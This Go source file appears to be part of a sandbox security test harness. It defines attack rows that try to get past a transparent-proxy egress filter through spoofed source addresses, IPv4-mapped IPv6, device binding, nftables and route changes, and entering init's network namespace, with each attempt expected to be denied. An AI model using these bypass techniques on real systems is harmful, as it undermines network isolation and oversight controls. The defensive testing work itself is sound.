//go:build linux

package gauntlet

import (
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"strings"
	"syscall"
	"time"

	"github.com/google/nftables"
	"github.com/vishvananda/netlink"
	"golang.org/x/sys/unix"
)

// doorPort is where the tproxy door listens inside.
const doorPort = 1077

// doorRows try what a door may have left open: in a namespace where the kernel carries the packets every address is local.
func doorRows() []Row {
	return append(doorRuleRows(), []Row{
		{
			ID: "door/foreign-source", Vector: "sockets bound to somebody else's address (IP_FREEBIND), UDP and TCP, both families", Right: "no packet leaves but from the sandbox's own address",
			Source: "design.md 2", Rules: anyShop, Harm: Heard, Check: honestHeard,
			Attack: func(a *Attacker) error {
				free := func(fd int) error { return unix.SetsockoptInt(fd, unix.SOL_IP, unix.IP_FREEBIND, 1) }
				sendFrom(nobody4.AsSlice(), free, a.Token)
				sendFrom6(nobody6, a.Token)
				d := net.Dialer{LocalAddr: &net.TCPAddr{IP: nobody4.AsSlice()}, Timeout: 200 * time.Millisecond,
					Control: func(_, _ string, raw syscall.RawConn) error { return onDescriptor(raw, free) }}
				if c, err := d.Dial("tcp", at(Shop, 7)); err == nil {
					fmt.Fprintln(c, a.Token)
					c.Close()
				}
				return a.linger()
			},
		},
		{
			ID: "door/listener", Alone: true, Vector: "the door's own listener, by every address of the gateway and of the sandbox, for what the host has on that port", Right: "a destination like any other: the host's loopback is guarded",
			Source: "design.md 2", Rules: audit, Prepare: listenOnHost, Harm: Heard, Record: []string{"network-connect verdict=deny reason=guard dest_port=1077 protocol=tcp"},
			Attack: func(a *Attacker) error {
				err := errors.New("nobody was there")
				for _, host := range []string{"127.0.0.1", "::1", "10.77.0.1", "fd77::1", "10.77.0.2", "fd77::2", "host.weir.internal"} {
					to := net.JoinHostPort(host, fmt.Sprint(doorPort))
					if tellWithin(a, "tcp", to) == nil || tellWithin(a, "udp", to) == nil {
						err = nil
					}
				}
				return err
			},
		},
		{
			ID: "door/source-port", Alone: true, Vector: "connections to a denied server from the port that the door listens on", Right: "denied",
			Harm: Heard, Record: deniedAt(Evil, "src_port=1077 protocol=tcp"),
			Attack: func(a *Attacker) error {
				own, err := dial("udp4", at(Evil, 80)) // sends nothing, and has the address that a flow would have
				if err != nil {
					return err
				}
				own.Close()
				d := net.Dialer{LocalAddr: &net.TCPAddr{IP: own.LocalAddr().(*net.UDPAddr).IP, Port: doorPort}, Timeout: patience}
				c, err := d.Dial("tcp4", at(Evil, 80))
				if err != nil {
					return err
				}
				defer c.Close()
				return tell(c, a.Token+"\n")
			},
		},
		{
			ID: "door/bound-to-device", Vector: "sockets bound to each device (SO_BINDTODEVICE), TCP and UDP, to a denied server", Right: "whatever device it is, denied",
			Harm: Heard, Record: deniedAt(Evil, ""), Attack: overEachDevice,
		},
		{
			ID: "door/mapped", Vector: "an IPv6 socket and ::ffff: in front of a denied address, TCP and UDP", Right: "judged as the IPv4 that it is: denied",
			Harm: Heard, Record: deniedAt(Evil, "protocol=tcp"),
			Attack: func(a *Attacker) error {
				fd, err := unix.Socket(unix.AF_INET6, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
				if err != nil {
					return err
				}
				defer unix.Close(fd)
				mapped := netip.AddrFrom16(Evil.As16()).As16()
				if err := unix.Connect(fd, &unix.SockaddrInet6{Port: 80, Addr: mapped}); err != nil {
					return err
				}
				_, err = unix.Write(fd, []byte(a.Token))
				return err
			},
		},
		{
			ID: "door/fake-answer", Vector: "an echo request to a denied server, which a kernel that owns every address answers itself", Right: "nobody answers: what is there cannot be told from what is not",
			Source: "design.md 2", Lacks: lacksPing, Record: deniedAt(Evil, "protocol=icmp"),
			Attack: func(a *Attacker) error { return pingWithin(Evil, 500*time.Millisecond) },
		},
	}...)
}

// doorRuleRows try to change what the door is made of. None of it does harm where it succeeds.
func doorRuleRows() []Row {
	return []Row{
		{
			ID: "door/rules", Vector: "add an nftables table, an address, a route, a rule; change a setting; mark packets; take the namespace from init", Right: "nothing of it without a capability over the network namespace",
			Source: "design.md 2", Privileged: true,
			Attack: func(a *Attacker) error {
				var errs []error
				for _, try := range []func() error{addTable, addAddress, addRoute, changeSetting, markPackets, takeNamespace} {
					err := try()
					if err == nil {
						return nil
					}
					errs = append(errs, err)
				}
				return errors.Join(errs...)
			},
		},
		{
			ID: "door/transparent", Vector: "make a socket transparent, as the door's own are", Right: "not permitted",
			Source: "design.md 2", Privileged: true,
			Attack: func(*Attacker) error {
				fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
				if err != nil {
					return err
				}
				defer unix.Close(fd)
				return unix.SetsockoptInt(fd, unix.SOL_IP, unix.IP_TRANSPARENT, 1)
			},
		},
	}
}

func addTable() error {
	c, err := nftables.New()
	if err != nil {
		return err
	}
	t := c.AddTable(&nftables.Table{Family: nftables.TableFamilyIPv4, Name: "gauntlet"})
	if err := c.Flush(); err != nil {
		return err
	}
	c.DelTable(t)
	return c.Flush()
}

func onLoopback(do func(lo netlink.Link) error) error {
	lo, err := netlink.LinkByName("lo")
	if err != nil {
		return err
	}
	return do(lo)
}

func addAddress() error {
	return onLoopback(func(lo netlink.Link) error {
		addr := &netlink.Addr{IPNet: &net.IPNet{IP: net.IP{127, 9, 9, 9}, Mask: net.CIDRMask(32, 32)}}
		if err := netlink.AddrAdd(lo, addr); err != nil {
			return err
		}
		return netlink.AddrDel(lo, addr)
	})
}

func addRoute() error {
	return onLoopback(func(lo netlink.Link) error {
		r := &netlink.Route{LinkIndex: lo.Attrs().Index, Dst: &net.IPNet{IP: net.IP{127, 99, 99, 99}, Mask: net.CIDRMask(32, 32)}, Table: 4711}
		if err := netlink.RouteAdd(r); err != nil {
			return err
		}
		return netlink.RouteDel(r)
	})
}

func changeSetting() error {
	const path = "/proc/sys/net/ipv4/ip_default_ttl"
	value, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	return os.WriteFile(path, value, 0)
}

func markPackets() error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	return unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_MARK, 7)
}

// takeNamespace enters the network namespace of PID 1 once more.
func takeNamespace() error {
	f, err := os.Open("/proc/1/ns/net")
	if err != nil {
		return err
	}
	defer f.Close()
	return unix.Setns(int(f.Fd()), unix.CLONE_NEWNET)
}

// listenOnHost has the host's loopback answer on the door's port, over TCP.
func listenOnHost(s *Stage) error {
	for _, host := range []string{"127.0.0.1", "::1"} {
		ln, err := net.Listen("tcp", net.JoinHostPort(host, fmt.Sprint(doorPort)))
		if err != nil {
			return err
		}
		s.Defer(func() { ln.Close() })
		go func() {
			for {
				c, err := ln.Accept()
				if err != nil {
					return
				}
				go s.World.HearAll(c)
			}
		}()
	}
	return nil
}

// tellWithin says the token and waits a moment for whatever comes back.
func tellWithin(a *Attacker, network, to string) error {
	c, err := net.DialTimeout(network, to, time.Second)
	if err != nil {
		return err
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(100 * time.Millisecond))
	if _, err := fmt.Fprintln(c, a.Token); err != nil || network == "tcp" {
		return err
	}
	_, err = c.Read(make([]byte, 16))
	return err
}

// overEachDevice says the token to a denied server over every device that there is.
func overEachDevice(a *Attacker) error {
	devices, err := net.Interfaces()
	if err != nil {
		return err
	}
	said := errors.New("no device")
	for _, d := range devices {
		for network, port := range map[string]uint16{"tcp4": 80, "udp4": 7} {
			bound := func(_, _ string, raw syscall.RawConn) error {
				return onDescriptor(raw, func(fd int) error { return unix.BindToDevice(fd, d.Name) })
			}
			c, err := (&net.Dialer{Timeout: time.Second, Control: bound}).Dial(network, at(Evil, port))
			if err != nil {
				said = errors.Join(said, err)
				continue
			}
			c.SetDeadline(time.Now().Add(200 * time.Millisecond))
			if err := tell(c, strings.TrimSpace(a.Token)+"\n"); err == nil {
				said = nil
			}
			c.Close()
		}
	}
	return said
}

// sendFrom6 is sendFrom in IPv6, by IPV6_FREEBIND.
func sendFrom6(from netip.Addr, text string) error {
	fd, err := unix.Socket(unix.AF_INET6, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	if err := unix.SetsockoptInt(fd, unix.SOL_IPV6, unix.IPV6_FREEBIND, 1); err != nil {
		return err
	}
	if err := unix.Bind(fd, &unix.SockaddrInet6{Addr: from.As16()}); err != nil {
		return err
	}
	return unix.Sendto(fd, []byte(text), 0, &unix.SockaddrInet6{Port: 7, Addr: Shop6.As16()})
}

// pingWithin asks for an echo and waits so long for it.
func pingWithin(to netip.Addr, wait time.Duration) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, unix.IPPROTO_ICMP)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	tv := unix.NsecToTimeval(int64(wait))
	if err := unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv); err != nil {
		return err
	}
	if err := unix.Sendto(fd, []byte{8, 0, 0, 0, 0, 1, 0, 1}, 0, &unix.SockaddrInet4{Addr: to.As4()}); err != nil {
		return err
	}
	_, err = unix.Read(fd, make([]byte, 1500))
	return err
}
